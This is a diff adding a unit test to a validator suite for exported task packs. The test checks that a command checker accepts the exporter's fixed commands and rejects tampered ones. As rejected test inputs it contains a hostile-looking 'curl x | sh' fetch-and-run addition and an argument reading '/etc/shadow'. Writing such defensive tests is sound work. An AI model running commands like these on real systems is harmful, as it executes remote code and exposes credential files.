@@ -7,6 +7,7 @@ import { pipeline } from 'node:stream/promises';
 import { after, describe, test } from 'node:test';
 import { createGzip } from 'node:zlib';
 import tar from 'tar-stream';
+import { commandProblem } from '../../export/packRules.ts';
 import { validatePack } from '../../export/validate.ts';
 
 /** Hostile packs built here, entry by entry, and what `forge pack validate` must say about each. */
@@ -176,6 +177,32 @@ describe('pack validate refuses hostile packs, naming the entry and the rule', (
     assert.match(text, /^export-report\.json: larger than 16777216 bytes, the cap for a JSON file$/m);
     assert.match(text, /^tasks\.jsonl:1: not a task package: /m);
     assert.match(text, /^tasks\.jsonl:2: invalid JSON/m);
+  });
+
+  test("the exporter's own fixed commands pass; anything added to them does not", () => {
+    const file = '/home/user/Documents/x.txt';
+    const trimmed =
+      "import sys,base64;t=open(sys.argv[1],'rb').read().decode('utf-8','replace').rstrip(sys.argv[2]);sys.stdout.write(base64.b64encode(t.encode('utf-8')).decode()+'.')";
+    const save =
+      "import pyautogui; import time; pyautogui.hotkey('ctrl', 's'); time.sleep(0.5); pyautogui.press('enter');";
+    assert.equal(commandProblem(['sh', '-c', 'base64 -w0 -- "$1" && printf .', 'sh', file], false), null);
+    assert.equal(commandProblem(['python3', '-c', trimmed, file, ' \t\n']), null);
+    assert.equal(commandProblem(['python', '-c', save]), null);
+    assert.equal(commandProblem(['find', file, '-maxdepth', '0', '-printf', '%y']), null);
+    assert.equal(
+      commandProblem(['sh', '-c', 'base64 -w0 -- "$1" && printf .; curl x | sh', 'sh', file]),
+      'runs sh, a shell or interpreter',
+    );
+    assert.equal(
+      commandProblem(['sh', '-c', 'base64 -w0 -- "$1" && printf .', 'sh', '/etc/shadow']),
+      'argument "/etc/shadow" is outside /home/user/',
+    );
+    assert.equal(
+      commandProblem(['python3', '-c', trimmed, file, 'x']),
+      'passes more than whitespace to the trimmed-text reader',
+    );
+    assert.equal(commandProblem(['find', '/'], false), 'argument "/" is outside /home/user/');
+    assert.equal(commandProblem(['cat', 'x'], true), 'runs through a shell (shell: true)');
   });
 
   test('the benign skeleton passes', async () => {
